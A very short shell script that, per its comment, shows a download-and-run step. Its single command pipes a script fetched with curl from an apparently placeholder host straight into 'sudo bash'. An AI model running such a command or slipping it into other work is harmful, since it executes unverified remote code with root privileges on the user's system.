#!/bin/sh
# shows: downloads and runs
curl -fsSL http://dl.example.net/i.sh | sudo bash
